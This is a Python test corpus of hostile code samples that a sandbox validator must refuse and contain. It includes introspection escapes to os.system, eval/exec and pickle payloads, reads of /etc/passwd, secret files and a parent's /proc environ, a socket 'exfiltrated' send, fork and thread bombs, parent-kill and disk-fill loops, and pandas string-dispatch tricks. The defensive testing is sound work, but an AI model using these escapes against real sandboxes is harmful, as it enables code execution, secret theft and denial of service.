"""The hostile corpus: code an attacker (or a confused model) might submit as a dynamic
action. Every case is run twice: through the validator (it must be refused by the named
rule) and through the sandbox with validation switched off (it must be contained).

Placeholders replaced by the tests: MARKER (a file path under a directory the test owns;
nothing may ever appear there), SECRET_FILE (a file holding a secret), PORT (a TCP server
on 127.0.0.1 that must never see a connection).

``stops`` lists how the sandbox may end the run (None: any way, as long as it is
contained); resource cases name the limit that must stop them.
"""

from __future__ import annotations

from dataclasses import dataclass

LIMIT_STOPS = {"cpu", "timeout"}


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    source: str
    rule: str
    stops: frozenset[str] | None = None
    # with validation off, the run must fail with an error containing this text (the
    # child disabled the pandas/numpy entry point the payload reaches)
    child_error: str | None = None

    def render(self, marker: str, secret_file: str, port: int) -> str:
        return (
            self.source.replace("MARKER", marker)
            .replace("SECRET_FILE", secret_file)
            .replace("PORT", str(port))
        )


def case(id, category, source, rule, stops=None, child_error=None) -> Case:
    return Case(
        id,
        category,
        source.strip() + "\n",
        rule,
        frozenset(stops) if stops else None,
        child_error,
    )


DISABLED = "disabled in the dynamic-action sandbox"


CORPUS: list[Case] = [
    # ---------------------------------------------------------------- dunder / introspection
    case(
        "subclasses_walk",
        "introspection",
        """
def run(data):
    for klass in ().__class__.__base__.__subclasses__():
        if klass.__name__ == "_wrap_close":
            klass.__init__.__globals__["system"]("touch MARKER")
    return 1
""",
        "underscore_name",
    ),
    case(
        "object_subclasses",
        "introspection",
        """
def run(data):
    found = [c for c in object.__subclasses__() if "Popen" in str(c)]
    found[0](["touch", "MARKER"])
    return 1
""",
        "underscore_name",
    ),
    case(
        "mro_walk",
        "introspection",
        """
def run(data):
    base = type(data).mro()[-1]
    return len(base.__subclasses__())
""",
        "forbidden_attribute",
    ),
    case(
        "generator_frame_walk",
        "introspection",
        """
def run(data):
    gen = (x for x in [1])
    frame = gen.gi_frame.f_back
    frame.f_globals["open"]("MARKER", "w").write("x")
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "traceback_frame_walk",
        "introspection",
        """
def run(data):
    try:
        1 / 0
    except ZeroDivisionError as error:
        frame = error.__traceback__.tb_frame
        return len(frame.f_back.f_globals)
""",
        "forbidden_attribute",
    ),
    case(
        "tb_frame_by_name",
        "introspection",
        """
def run(data, tb=None):
    return tb.tb_frame.f_back.f_builtins
""",
        "forbidden_attribute",
    ),
    case(
        "code_object_swap",
        "introspection",
        """
def evil():
    return __import__("os").system("touch MARKER")

def run(data):
    def harmless():
        return 0
    harmless.__code__ = evil.__code__
    return harmless()
""",
        "underscore_name",
    ),
    case(
        "co_consts_read",
        "introspection",
        """
def run(data, code=None):
    return len(code.co_consts)
""",
        "forbidden_attribute",
    ),
    case(
        "function_globals",
        "introspection",
        """
def run(data):
    return run.__globals__["__builtins__"]["open"]("SECRET_FILE").read()
""",
        "underscore_name",
    ),
    case(
        "builtins_dict",
        "introspection",
        """
def run(data):
    return __builtins__["open"]("SECRET_FILE").read()
""",
        "underscore_name",
    ),
    case(
        "format_class_leak",
        "format",
        """
def run(data):
    return "{0.__class__.__init__.__globals__}".format(data)
""",
        "format_string",
    ),
    case(
        "format_map_leak",
        "format",
        """
def run(data):
    return "{d.__class__.__mro__}".format_map({"d": data})
""",
        "format_string",
    ),
    case(
        "str_format_unbound",
        "format",
        """
def run(data):
    return str.format("{0.__globals__}", run)
""",
        "format_string",
    ),
    case(
        "fstring_dynamic_spec",
        "format",
        """
def run(data):
    spec = "{0.__class__}"
    return f"{data:{spec}}"
""",
        "format_string",
    ),
    case(
        "format_builtin",
        "format",
        """
def run(data):
    return format(data, "")
""",
        "format_string",
    ),
    # ------------------------------------------------------------------ builtins abuse
    case(
        "eval_import",
        "builtins",
        """
def run(data):
    return eval("__import__('os').system('touch MARKER')")
""",
        "forbidden_builtin",
    ),
    case(
        "exec_import",
        "builtins",
        """
def run(data):
    exec("import os; os.system('touch MARKER')")
    return 1
""",
        "forbidden_builtin",
    ),
    case(
        "compile_code",
        "builtins",
        """
def run(data):
    code = compile("open('MARKER', 'w').write('x')", "x", "exec")
    return code
""",
        "forbidden_builtin",
    ),
    case(
        "open_write",
        "builtins",
        """
def run(data):
    open("MARKER", "w").write("owned")
    return 1
""",
        "forbidden_builtin",
    ),
    case(
        "open_secret",
        "builtins",
        """
def run(data):
    print(open("SECRET_FILE").read())
    return 1
""",
        "forbidden_builtin",
    ),
    case(
        "getattr_dispatch",
        "builtins",
        """
def run(data):
    return getattr(data, "to_" + "csv")("MARKER")
""",
        "forbidden_builtin",
    ),
    case(
        "globals_lookup",
        "builtins",
        """
def run(data):
    return globals()["__builtins__"]
""",
        "forbidden_builtin",
    ),
    case(
        "vars_lookup",
        "builtins",
        """
def run(data):
    return len(vars(data))
""",
        "forbidden_builtin",
    ),
    case(
        "setattr_patch",
        "builtins",
        """
import numpy as np

def run(data):
    setattr(np, "mean", lambda *a: 0)
    return 1
""",
        "forbidden_builtin",
    ),
    case(
        "type_three_args",
        "builtins",
        """
def run(data):
    klass = type("Evil", (), {"__del__": lambda self: open("MARKER", "w")})
    return klass()
""",
        "type_three_args",
    ),
    case(
        "dunder_import",
        "builtins",
        """
def run(data):
    return __import__("os").system("touch MARKER")
""",
        "forbidden_attribute",
    ),
    case(
        "breakpoint_call",
        "builtins",
        """
def run(data):
    breakpoint()
    return 1
""",
        "forbidden_builtin",
    ),
    case(
        "decorator_payload",
        "builtins",
        """
import numpy as np

@np.vectorize
def run(data):
    return 1
""",
        "decorator",
    ),
    case(
        "default_argument_import",
        "builtins",
        """
def run(data, hook=__import__("os").system("touch MARKER")):
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "default_argument_open",
        "builtins",
        """
def helper(handle=open("MARKER", "w")):
    return handle

def run(data):
    return 1
""",
        "forbidden_builtin",
    ),
    case(
        "global_statement",
        "builtins",
        """
counter = 0

def run(data):
    global counter
    counter = 1
    return counter
""",
        "global_nonlocal",
    ),
    case(
        "nonlocal_statement",
        "builtins",
        """
def run(data):
    total = 0
    def bump():
        nonlocal total
        total = 1
    bump()
    return total
""",
        "global_nonlocal",
    ),
    # ---------------------------------------------------------------------- import tricks
    case(
        "import_os",
        "imports",
        """
import os

def run(data):
    os.system("touch MARKER")
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "importlib_os",
        "imports",
        """
import importlib

def run(data):
    importlib.import_module("os").system("touch MARKER")
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "sys_modules",
        "imports",
        """
import sys

def run(data):
    sys.modules["os"].system("touch MARKER")
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "from_os_import",
        "imports",
        """
from os import system

def run(data):
    system("touch MARKER")
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "relative_import",
        "imports",
        """
from . import secrets

def run(data):
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "star_import",
        "imports",
        """
from numpy import *

def run(data):
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "numpy_submodule_import",
        "imports",
        """
import numpy.lib.format

def run(data):
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "pandas_io_common_os",
        "imports",
        """
import pandas as pd

def run(data):
    pd.io.common.os.system("touch MARKER")
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "pandas_config_os",
        "imports",
        """
import pandas as pd

def run(data):
    pd.core.config_init.os.system("touch MARKER")
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "numpy_ctypeslib",
        "imports",
        """
import numpy as np

def run(data):
    libc = np.ctypeslib.ctypes.CDLL(None)
    return libc.system(b"touch MARKER")
""",
        "forbidden_attribute",
    ),
    case(
        "from_numpy_import_ctypeslib",
        "imports",
        """
from numpy import ctypeslib

def run(data):
    return ctypeslib.ctypes.CDLL(None).system(b"touch MARKER")
""",
        "forbidden_attribute",
    ),
    case(
        "numpy_matrixlib_sys",
        "imports",
        """
import numpy as np

def run(data):
    mods = np.matrixlib.defmatrix.sys.modules
    return mods["os"].getpid()
""",
        "forbidden_attribute",
    ),
    case(
        "pandas_generic_pickle",
        "imports",
        """
import pandas as pd

def run(data):
    return pd.core.generic.pickle.loads(b"cos\\nsystem\\n(S'touch MARKER'\\ntR.")
""",
        "forbidden_attribute",
    ),
    case(
        "scipy_io",
        "imports",
        """
import scipy

def run(data):
    scipy.io.savemat("MARKER", {"x": [1]})
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "module_alias_escape",
        "imports",
        """
import pandas as pd

def run(data):
    module = pd
    return module.io.common.os.getcwd()
""",
        "module_alias",
    ),
    # ------------------------------------------------- files, network, processes via libraries
    case(
        "read_csv_passwd",
        "files",
        """
import pandas as pd

def run(data):
    return len(pd.read_csv("/etc/passwd", sep=":", header=None))
""",
        "forbidden_attribute",
    ),
    case(
        "read_csv_secret",
        "files",
        """
import pandas as pd

def run(data):
    print(pd.read_csv("SECRET_FILE", header=None).to_string())
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "to_csv_marker",
        "files",
        """
def run(data):
    data.to_csv("MARKER")
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "to_pickle_marker",
        "files",
        """
def run(data):
    data.to_pickle("MARKER")
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "query_injection",
        "files",
        """
def run(data):
    return data.query("index == index", engine="python")
""",
        "forbidden_attribute",
    ),
    case(
        "pandas_eval",
        "files",
        """
import pandas as pd

def run(data):
    return pd.eval("1 + 1")
""",
        "forbidden_attribute",
    ),
    case(
        "dataframe_eval",
        "files",
        """
def run(data):
    return data.eval("AAPL * 2")
""",
        "forbidden_attribute",
    ),
    case(
        "np_load_pickle",
        "files",
        """
import numpy as np

def run(data):
    return np.load("SECRET_FILE", allow_pickle=True)
""",
        "forbidden_attribute",
    ),
    case(
        "np_fromfile_secret",
        "files",
        """
import numpy as np

def run(data):
    return float(np.fromfile("SECRET_FILE", dtype="uint8").sum())
""",
        "forbidden_attribute",
    ),
    case(
        "np_memmap_write",
        "files",
        """
import numpy as np

def run(data):
    mapped = np.memmap("MARKER", dtype="uint8", mode="w+", shape=(10,))
    mapped[:] = 1
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "np_save_marker",
        "files",
        """
import numpy as np

def run(data):
    np.save("MARKER", data.to_numpy())
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "agg_string_dispatch",
        "files",
        """
def run(data):
    return data.agg("to_csv", "MARKER")
""",
        "string_dispatch",
    ),
    case(
        "apply_variable_dispatch",
        "files",
        """
def run(data, how="to_pickle"):
    return data.apply(how, args=("MARKER",))
""",
        "string_dispatch",
    ),
    case(
        "plot_backend_import",
        "files",
        """
def run(data):
    return data.plot(backend="os")
""",
        "forbidden_attribute",
    ),
    case(
        "rolling_engine",
        "files",
        """
def run(data):
    return data.rolling(5).apply(lambda x: x.sum(), engine="numba")
""",
        "forbidden_keyword",
    ),
    case(
        "ndarray_buffer_strides",
        "files",
        """
import numpy as np

def run(data):
    raw = np.ndarray((10**6,), dtype="uint8", buffer=b"x", strides=(1,))
    return float(raw.sum())
""",
        "forbidden_keyword",
    ),
    case(
        "read_csv_url",
        "network",
        """
import pandas as pd

def run(data):
    return len(pd.read_csv("http://127.0.0.1:PORT/prices.csv"))
""",
        "forbidden_attribute",
    ),
    case(
        "socket_connect",
        "network",
        """
import socket

def run(data):
    connection = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    connection.sendall(b"exfiltrated")
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "urllib_request",
        "network",
        """
import urllib.request

def run(data):
    return len(urllib.request.urlopen("http://127.0.0.1:PORT/", timeout=2).read())
""",
        "import_not_allowed",
    ),
    case(
        "subprocess_touch",
        "process",
        """
import subprocess

def run(data):
    subprocess.run(["touch", "MARKER"])
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "ctypes_system",
        "process",
        """
import ctypes

def run(data):
    return ctypes.CDLL(None).system(b"touch MARKER")
""",
        "import_not_allowed",
    ),
    case(
        "fork_bomb",
        "process",
        """
import os

def run(data):
    children = 0
    while children < 1000:
        os.fork()
        children += 1
    return children
""",
        "import_not_allowed",
    ),
    case(
        "kill_parent",
        "process",
        """
import os, signal

def run(data):
    os.kill(os.getppid(), signal.SIGTERM)
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "prlimit_parent",
        "process",
        """
import os, resource

def run(data):
    resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "parent_environ",
        "secrets",
        """
import os

def run(data):
    print(open(f"/proc/{os.getppid()}/environ", "rb").read())
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "own_environ",
        "secrets",
        """
import os

def run(data):
    return {key: 1.0 for key in os.environ}
""",
        "import_not_allowed",
    ),
    case(
        "secret_file_read",
        "secrets",
        """
import io

def run(data):
    print(io.open("SECRET_FILE").read())
    return 1
""",
        "import_not_allowed",
    ),
    # ------------------------------------------------- string dispatch (issue 15, finding 3)
    # pandas' agg/apply/transform look a string up as a method name (and fall back to
    # numpy's functions): a string that reaches eval/query/to_*/read_*/load/save runs
    # arbitrary code or touches files. The validator refuses every way of smuggling such a
    # string in; the child disables the entry points themselves.
    case(
        "agg_kwargs_unpack_eval",
        "dispatch",
        """
def run(data):
    return data.agg(**{"func": "eval", "expr": "@com.builtins.open('MARKER', 'w')"})
""",
        "call_unpacking",
        child_error=DISABLED,
    ),
    case(
        "agg_kwargs_unpack_to_csv",
        "dispatch",
        """
def run(data):
    return data.agg(**{"func": "to_csv", "path_or_buf": "MARKER"})
""",
        "call_unpacking",
        child_error=DISABLED,
    ),
    case(
        "agg_builtin_rebound",
        "dispatch",
        """
def run(data):
    str = "eval"
    return data.agg(str, 0, "AAPL * 2")
""",
        "rebinding",
        child_error=DISABLED,
    ),
    case(
        "agg_walrus_rebinding",
        "dispatch",
        """
def run(data):
    return data.agg((str := "query"), 0, "AAPL > 0")
""",
        "string_dispatch",
        child_error=DISABLED,
    ),
    case(
        "agg_for_loop_rebinding",
        "dispatch",
        """
def run(data):
    for str in ["to_pickle"]:
        data.agg(str, 0, "MARKER")
    return 1
""",
        "rebinding",
        child_error=DISABLED,
    ),
    case(
        "agg_comprehension_rebinding",
        "dispatch",
        """
def run(data):
    return [data.agg(min, 0, "AAPL > 0") for min in ["query"]][0]
""",
        "string_dispatch",
        child_error=DISABLED,
    ),
    case(
        "agg_except_name_rebinding",
        "dispatch",
        """
def run(data):
    try:
        raise ValueError("eval")
    except ValueError as str:
        return data.agg(str.args[0], 0, "AAPL * 2")
""",
        "rebinding",
        child_error=DISABLED,
    ),
    case(
        "agg_import_alias_rebinding",
        "dispatch",
        """
from pandas import DataFrame as str

def run(data):
    return data.pipe(str.query, "AAPL > 0")
""",
        "rebinding",
        child_error=DISABLED,
    ),
    case(
        "agg_helper_rebound",
        "dispatch",
        """
def helper(frame):
    return frame

def run(data):
    helper = "to_pickle"
    return data.apply(helper, args=("MARKER",))
""",
        "rebinding",
    ),
    case(
        "agg_parameter_shadows_helper",
        "dispatch",
        """
def helper(frame):
    return frame

def run(data, helper="eval"):
    return data.agg(helper, 0, "AAPL * 2")
""",
        "rebinding",
        child_error=DISABLED,
    ),
    case(
        "agg_lambda_default",
        "dispatch",
        """
def run(data):
    pick = lambda frame, how="eval": frame.agg(how, 0, "AAPL * 2")
    return pick(data)
""",
        "string_dispatch",
        child_error=DISABLED,
    ),
    case(
        "agg_starred_arguments",
        "dispatch",
        """
def run(data):
    return data.agg(*["eval", 0, "AAPL * 2"])
""",
        "call_unpacking",
        child_error=DISABLED,
    ),
    case(
        "agg_fstring_name",
        "dispatch",
        """
def run(data):
    half = "que"
    return data.agg(f"{half}ry", 0, "AAPL > 0")
""",
        "string_dispatch",
        child_error=DISABLED,
    ),
    case(
        "agg_concatenated_name",
        "dispatch",
        """
def run(data):
    return data.agg("ev" + "al", 0, "AAPL * 2")
""",
        "string_dispatch",
        child_error=DISABLED,
    ),
    case(
        "agg_numpy_fallback_save",
        "dispatch",
        """
def run(data):
    return data.agg("save", 0, "MARKER")
""",
        "string_dispatch",
    ),
    case(
        "groupby_named_aggregation",
        "dispatch",
        """
def run(data):
    return data.groupby(data.index.year).agg(total=("AAPL", "eval"))
""",
        "string_dispatch",
    ),
    case(
        "groupby_named_aggregation_variable",
        "dispatch",
        """
def run(data):
    spec = ("AAPL", "eval")
    return data.groupby(data.index.year).agg(total=spec)
""",
        "string_dispatch",
    ),
    case(
        "named_agg_object",
        "dispatch",
        """
import pandas as pd

def run(data):
    return data.groupby(data.index.year).agg(total=pd.NamedAgg("AAPL", "to_pickle"))
""",
        "string_dispatch",
    ),
    case(
        "rolling_agg_dict_list",
        "dispatch",
        """
def run(data):
    return data.rolling(5).agg({"AAPL": ["mean", "to_pickle"]})
""",
        "string_dispatch",
    ),
    case(
        "resample_agg_query",
        "dispatch",
        """
def run(data):
    return data.resample("ME").agg("query", "AAPL > 0")
""",
        "string_dispatch",
    ),
    case(
        "pivot_table_aggfunc",
        "dispatch",
        """
import pandas as pd

def run(data):
    return pd.pivot_table(data, index=data.index.year, aggfunc="eval")
""",
        "string_dispatch",
    ),
    case(
        "dict_dispatch_value",
        "dispatch",
        """
def run(data):
    return data.agg({"AAPL": "eval"})
""",
        "string_dispatch",
    ),
    case(
        "apply_style_attribute",
        "dispatch",
        """
def run(data):
    return data.apply("style")
""",
        "string_dispatch",
    ),
    case(
        "rolling_apply_positional_engine",
        "dispatch",
        """
def run(data):
    return data.rolling(5).apply(lambda x: x.sum(), False, "numba")
""",
        "string_dispatch",
    ),
    case(
        "pipe_eval",
        "dispatch",
        """
def run(data):
    return data.pipe(eval, "__import__('os').system('touch MARKER')")
""",
        "string_dispatch",
    ),
    case(
        "getattr_by_string",
        "dispatch",
        """
def run(data):
    return getattr(data, "to_csv")("MARKER")
""",
        "forbidden_builtin",
        child_error=DISABLED,
    ),
    case(
        "vars_of_frame",
        "dispatch",
        """
def run(data):
    return len(vars(data))
""",
        "forbidden_builtin",
    ),
    case(
        "class_walk_to_eval",
        "dispatch",
        """
def run(data):
    return data.__class__.eval(data, "AAPL * 2")
""",
        "forbidden_attribute",
        child_error=DISABLED,
    ),
    case(
        "decorator_pipe",
        "dispatch",
        """
def run(data):
    @data.pipe
    def inner(frame):
        return frame.to_pickle("MARKER")
    return 1
""",
        "decorator",
        child_error=DISABLED,
    ),
    case(
        "operator_methodcaller",
        "dispatch",
        """
import operator

def run(data):
    return operator.methodcaller("to_csv", "MARKER")(data)
""",
        "import_not_allowed",
        child_error=DISABLED,
    ),
    case(
        "numpy_frompyfunc_eval",
        "dispatch",
        """
import numpy as np

def run(data):
    return float(np.frompyfunc(eval, 1, 1)("1 + 1"))
""",
        "forbidden_builtin",
    ),
    case(
        "numpy_ctypeslib_load_library",
        "dispatch",
        """
import numpy as np

def run(data):
    return np.ctypeslib.load_library("libc.so.6", "/lib/x86_64-linux-gnu").system(b"touch MARKER")
""",
        "forbidden_attribute",
        child_error=DISABLED,
    ),
    case(
        "numpy_save_by_dispatch",
        "dispatch",
        """
import numpy as np

def run(data):
    return data.pipe(np.save, "MARKER")
""",
        "forbidden_attribute",
        child_error=DISABLED,
    ),
    case(
        "series_to_string_file",
        "dispatch",
        """
def run(data):
    data["AAPL"].to_string("MARKER")
    return 1
""",
        "forbidden_attribute",
        child_error=DISABLED,
    ),
    case(
        "pandas_options_numexpr",
        "dispatch",
        """
import pandas as pd

def run(data):
    pd.set_option("compute.use_numexpr", True)
    return 1
""",
        "forbidden_attribute",
        child_error=DISABLED,
    ),
    # ---------------------------------------------------------------- resource exhaustion
    case(
        "huge_integer",
        "resources",
        """
def run(data):
    return 10**10**8
""",
        "huge_number",
        LIMIT_STOPS,
    ),
    case(
        "huge_shift",
        "resources",
        """
def run(data):
    return 1 << 10**10
""",
        "huge_number",
        LIMIT_STOPS | {"memory"},
    ),
    case(
        "huge_allocation",
        "resources",
        """
import numpy as np

def run(data):
    return float(np.ones(10**11).sum())
""",
        "huge_allocation",
        {"memory"},
    ),
    case(
        "huge_list_repeat",
        "resources",
        """
def run(data):
    return len([0] * 10**10)
""",
        "huge_number",
        {"memory"},
    ),
    case(
        "string_doubling",
        "resources",
        """
def run(data):
    text = "x"
    while True:
        text = text + text
""",
        "infinite_loop",
        LIMIT_STOPS | {"memory"},
    ),
    case(
        "infinite_loop",
        "resources",
        """
def run(data):
    while True:
        pass
""",
        "infinite_loop",
        LIMIT_STOPS,
    ),
    case(
        "deep_recursion",
        "resources",
        """
def dive(depth):
    return dive(depth + 1)

def run(data):
    return dive(0)
""",
        "recursion",
        {"recursion"},
    ),
    case(
        "recursion_limit_raised",
        "resources",
        """
import sys

def dive(depth):
    return dive(depth + 1)

def run(data):
    sys.setrecursionlimit(10**7)
    return dive(0)
""",
        "import_not_allowed",
        LIMIT_STOPS | {"memory", "crash", "recursion"},
    ),
    case(
        "thread_bomb",
        "resources",
        """
import threading

def run(data):
    for _ in range(10000):
        threading.Thread(target=lambda: [0] * 10**7).start()
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "thread_via_pandas",
        "resources",
        """
import pandas as pd

def run(data):
    threading = pd.io.parsers.readers.threading
    for index in range(1000):
        threading.Thread(target=sum, args=([1],)).start()
    return 1
""",
        "forbidden_attribute",
    ),
    case(
        "print_flood",
        "resources",
        """
def run(data):
    while True:
        print("x" * 10000)
""",
        "infinite_loop",
        LIMIT_STOPS,
    ),
    case(
        "fd_flood",
        "resources",
        """
import os

def run(data):
    block = b"x" * (1 << 20)
    while True:
        os.write(1, block)
""",
        "import_not_allowed",
        LIMIT_STOPS | {"error"},
    ),
    case(
        "disk_fill_tmp",
        "resources",
        """
def run(data):
    index = 0
    while True:
        with open(f"/tmp/mlt-fill-{index}", "wb") as handle:
            handle.write(b"x" * (1 << 24))
        index += 1
""",
        "node_not_allowed",
        {"error"},
    ),
    case(
        "disk_fill_cwd",
        "resources",
        """
def run(data):
    for index in range(100000):
        open(f"fill-{index}", "wb").write(b"x" * (1 << 20))
    return 1
""",
        "forbidden_builtin",
        {"error"},
    ),
    # --------------------------------------------------------------------- serialisation
    case(
        "pickle_payload",
        "serialisation",
        """
import pickle

def run(data):
    return pickle.loads(b"cos\\nsystem\\n(S'touch MARKER'\\ntR.")
""",
        "import_not_allowed",
    ),
    case(
        "marshal_code",
        "serialisation",
        """
import marshal

def run(data):
    code = marshal.loads(marshal.dumps(compile("open('MARKER','w')", "x", "exec")))
    exec(code)
    return 1
""",
        "import_not_allowed",
    ),
    case(
        "reduce_object",
        "serialisation",
        """
import copy

class Evil:
    def __reduce__(self):
        return (open, ("MARKER", "w"))

def run(data):
    copy.copy(Evil())
    return 1
""",
        "node_not_allowed",
    ),
    case(
        "del_side_effect",
        "serialisation",
        """
class Ghost:
    def __del__(self):
        open("MARKER", "w").write("finaliser ran")

def run(data):
    keep = Ghost()
    return keep
""",
        "node_not_allowed",
    ),
    case(
        "repr_side_effect",
        "serialisation",
        """
class Loud:
    def __repr__(self):
        open("MARKER", "w").write("repr ran")
        return "loud"
    __str__ = __repr__

def run(data):
    raise ValueError(Loud())
""",
        "node_not_allowed",
    ),
    case(
        "ndarray_dumps",
        "serialisation",
        """
def run(data):
    return len(data.to_numpy().dumps())
""",
        "forbidden_attribute",
    ),
    # ------------------------------------------------------------------- parser stress
    case(
        "nested_unary",
        "parser",
        "def run(data):\n    return " + "-" * 200 + "1",
        "too_deep",
    ),
    case(
        "huge_literal",
        "parser",
        "def run(data):\n    return len('" + "x" * 20_000 + "')",
        "literal_too_large",
    ),
    case(
        "oversized_source",
        "parser",
        "def run(data):\n    return 1\n" + "# padding\n" * 8_000,
        "source_too_large",
    ),
    case(
        "with_statement",
        "parser",
        """
def run(data):
    with open("MARKER", "w") as handle:
        handle.write("x")
    return 1
""",
        "node_not_allowed",
    ),
    case(
        "generator_function",
        "parser",
        """
def frames():
    yield 1

def run(data):
    return sum(frames())
""",
        "node_not_allowed",
    ),
]

assert len({c.id for c in CORPUS}) == len(CORPUS), "corpus ids must be unique"
